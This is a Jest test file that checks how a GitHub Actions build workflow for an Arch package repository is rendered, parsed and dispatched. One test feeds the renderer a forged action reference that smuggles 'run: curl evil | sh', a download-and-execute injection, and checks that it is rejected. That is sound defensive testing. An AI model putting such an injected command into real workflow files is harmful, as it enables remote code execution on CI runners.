/**
 * The build workflow the app proposes (workflows-templates/arch-repo-build.yml with the builder action written
 * in), read by GitHub's own parser (@actions/workflow-parser) and its expressions evaluated
 * (@actions/expressions) with the inputs the dispatcher sends, the way the runner would.
 */
import { readFileSync } from "node:fs";
import { describe, expect, it } from "@jest/globals";
import { parse as parseYaml } from "yaml";
import type { MatrixEntry } from "../../src/build/contracts.js";
import { validateMatrix, validateMatrixEntry } from "../../src/build/matrix-entry.js";
import {
  BUILDER_ACTION_PLACEHOLDER,
  parseBuilderAction,
  renderWorkflowTemplate,
} from "../../src/config/builder-action.js";
import { dispatchInputs } from "../../src/github/dispatch.js";
import { proposedWorkflowFromEnv, workflowTemplatePath } from "../../src/handlers/deps.js";
import { dispatchRun, parse, type RunStep, WorkflowRejected } from "../helpers/workflow-run.js";

const rawTemplate = readFileSync(workflowTemplatePath(), "utf8");
const BUILDER = "octo-org/arch-repo-bot/action@v1";
const template = proposedWorkflowFromEnv({ BUILDER_ACTION: BUILDER });

const sampleMatrix: { include: MatrixEntry[] } = {
  include: [
    {
      pkgbase: "yay",
      source: "aur",
      ref: "0123456789abcdef0123456789abcdef01234567",
      pkgnames: ["yay"],
      version: "12.4.2-1",
      runs_on: ["ubuntu-latest"],
      timeout_minutes: 120,
    },
    {
      pkgbase: "my-meta",
      source: "local",
      ref: "89abcdef89abcdef89abcdef89abcdef89abcdef",
      path: "meta",
      pkgnames: ["my-meta"],
      version: "1.0-2",
      pkgrel: "2",
      runs_on: ["self-hosted", "linux", "x64", "big"],
      timeout_minutes: 1440,
    },
  ],
};

/** The inputs the dispatcher sends for sampleMatrix (src/github/dispatch.ts). */
const inputs = dispatchInputs(
  {
    owner: "alice",
    repo: "packages",
    workflow: "arch-repo-build.yml",
    branch: "main",
    buildId: "b-42",
    entries: sampleMatrix.include,
    repoName: "myrepo",
    repoUrl: "https://example.s3.amazonaws.com/$arch",
    repoKey: "-----BEGIN PGP PUBLIC KEY BLOCK-----\n…\n-----END PGP PUBLIC KEY BLOCK-----",
  },
  sampleMatrix.include,
);

interface RawStep {
  readonly uses?: string;
  readonly if?: string;
  readonly run?: string;
  readonly with?: Record<string, unknown>;
}
interface RawWorkflow {
  readonly "run-name": string;
  readonly on: { workflow_dispatch: { inputs: Record<string, { required?: boolean; type?: string }> } };
  readonly permissions: unknown;
  readonly jobs: {
    build: {
      permissions?: unknown;
      strategy: unknown;
      container: { image: string };
      "runs-on": unknown;
      "timeout-minutes": unknown;
      steps: RawStep[];
    };
  };
}

/** Every `run:` script of every step of every job. */
function runScripts(workflow: unknown): string[] {
  const jobs = Object.values(
    (workflow as { jobs?: Record<string, { steps?: { run?: unknown }[] }> }).jobs ?? {},
  );
  return jobs
    .flatMap((job) => (job.steps ?? []).map((s) => s.run).filter((r) => r !== undefined))
    .map(String);
}

describe("the proposed build workflow (workflows-templates/arch-repo-build.yml)", () => {
  const parsed = parse(template);
  const raw = parseYaml(template) as RawWorkflow;

  it("the template holds one builder-action placeholder; the proposed file names the configured action", () => {
    expect(rawTemplate.split(BUILDER_ACTION_PLACEHOLDER)).toHaveLength(2);
    expect(template).not.toContain(BUILDER_ACTION_PLACEHOLDER);
    // The placeholder the template shipped before (no repository resolves it) is gone for good.
    expect(template).not.toMatch(/OWNER/);
    const uses = raw.jobs.build.steps.map((s) => s.uses).filter((u) => u !== undefined);
    expect(uses).toContain(BUILDER);
    // Every `uses:` is a reference GitHub resolves: {owner}/{repo}[/{path}]@{ref}, no placeholder left.
    for (const u of uses) expect(parseBuilderAction(u as string, "uses").uses).toBe(u);
    // Only the `uses:` line differs from the template.
    const changed = template.split("\n").filter((line, i) => line !== rawTemplate.split("\n")[i]);
    expect(changed).toEqual([`        uses: ${BUILDER}`]);
  });

  it("refuses to render without exactly one placeholder, or with an unvalidated reference", () => {
    const action = parseBuilderAction(BUILDER);
    expect(() =>
      renderWorkflowTemplate(rawTemplate.replace(BUILDER_ACTION_PLACEHOLDER, "x/y@v1"), action),
    ).toThrow(/exactly one/);
    const twice = `${rawTemplate}\n      - uses: ${BUILDER_ACTION_PLACEHOLDER}\n`;
    expect(() => renderWorkflowTemplate(twice, action)).toThrow(/exactly one/);
    // A forged object (not from parseBuilderAction) is validated again before it is written.
    const forged = { ...action, uses: "x/y@v1\n        run: curl evil | sh" };
    expect(() => renderWorkflowTemplate(rawTemplate, forged)).toThrow(/BUILDER_ACTION/);
  });

  it("parses with GitHub's workflow parser without errors", async () => {
    expect(parsed.context.errors.getErrors()).toEqual([]);
    const run = await dispatchRun(template, inputs);
    expect(run.events).toEqual(["workflow_dispatch"]);
    expect([...new Set(run.jobs.map((j) => j.id))]).toEqual(["build"]);
  });

  it("is checked for real: the parser reports a broken variant, and unknown inputs are refused", async () => {
    const broken = template.replace("contents: read", "contents: sudo");
    expect(parse(broken).context.errors.getErrors().length).toBeGreaterThan(0);
    await expect(dispatchRun(broken, inputs)).rejects.toThrow(WorkflowRejected);
    await expect(dispatchRun(template, { ...inputs, extra: "x" })).rejects.toThrow(/unexpected input extra/);
  });

  it("declares the dispatch inputs, the run name and read-only permissions", () => {
    const declared = raw.on.workflow_dispatch.inputs;
    expect(Object.keys(declared).sort()).toEqual(["build_id", "matrix", "repo_key", "repo_name", "repo_url"]);
    // Exactly the inputs the dispatcher sends.
    expect(Object.keys(inputs).sort()).toEqual(Object.keys(declared).sort());
    expect(declared.build_id?.required).toBe(true);
    expect(declared.matrix?.required).toBe(true);
    for (const input of Object.values(declared)) expect(input.type).toBe("string");
    expect(raw["run-name"]).toContain(`\${{ inputs.build_id }}`);
    expect(raw.permissions).toEqual({ contents: "read" });
    expect(raw.jobs.build.permissions).toBeUndefined();
  });

  it("runs one fail-slow job per entry in the Arch container, on the entry's runner, with its timeout", () => {
    const job = raw.jobs.build;
    expect(job.strategy).toEqual({ matrix: `\${{ fromJSON(inputs.matrix) }}`, "fail-fast": false });
    expect(job.container.image).toBe("archlinux:base-devel");
    // Issue 15.2: both come from the matrix entry, whose values the dispatcher (and the action) validate.
    expect(job["runs-on"]).toBe(`\${{ matrix.runs_on }}`);
    expect(job["timeout-minutes"]).toBe(`\${{ matrix.timeout_minutes }}`);
    const uses = job.steps.map((s) => s.uses);
    expect(uses[0]).toMatch(/^actions\/checkout@v\d+$/);
    expect(uses[1]).toBe(BUILDER);
    expect(uses[2]).toBe("actions/upload-artifact@v4");
    expect(job.steps[2]?.if).toBe("always()");
    expect(Number(job.steps[2]?.with?.["retention-days"])).toBeLessThanOrEqual(7);
    expect(job.steps[0]?.with?.["persist-credentials"]).toBe(false);
  });

  it("puts no expression into a shell script (values go through with:/env:)", () => {
    for (const script of runScripts(raw)) expect(script).not.toContain("${{");
    const unsafe = parseYaml(
      template.replace(
        "persist-credentials: false",
        `persist-credentials: false\n      - run: echo \${{ inputs.build_id }}`,
      ),
    );
    expect(runScripts(unsafe).some((s) => s.includes("${{"))).toBe(true);
  });

  it("runs as dispatched: the matrix expression and every step input resolve for the dispatcher's inputs", async () => {
    const run = await dispatchRun(template, inputs);
    expect(run.runName).toBe("arch-repo-bot build b-42");
    expect(validateMatrix({ include: run.jobs.map((j) => j.matrix) })).toEqual(sampleMatrix);
    expect(run.jobs).toHaveLength(sampleMatrix.include.length);
    for (const [i, entry] of sampleMatrix.include.entries()) {
      const job = run.jobs[i]!;
      expect(job.name).toBe(entry.pkgbase);
      expect(job.runsOn).toEqual(entry.runs_on);
      expect(job.timeoutMinutes).toBe(entry.timeout_minutes);
      const [checkout, build, upload] = job.steps as [RunStep, RunStep, RunStep];
      expect(checkout.runs).toBe(entry.source === "local");
      expect(checkout.with.ref).toBe(entry.ref);
      expect(build.name).toBe(`Build ${entry.pkgbase}`);
      expect(build.uses).toBe(BUILDER);
      expect(build.runs).toBe(true);
      expect(build.with["build-id"]).toBe("b-42");
      expect(validateMatrixEntry(JSON.parse(build.with.entry as string))).toEqual(entry);
      expect(build.with["repo-name"]).toBe(inputs.repo_name);
      expect(build.with["repo-url"]).toBe(inputs.repo_url);
      expect(build.with["repo-key"]).toBe(inputs.repo_key);
      expect(upload.runs).toBe(true);
      expect(upload.with.name).toBe(`arch-repo-${entry.pkgbase}`);
      expect(upload.with.path).toBe(`${build.with["out-dir"]}/`);
    }
  });
});
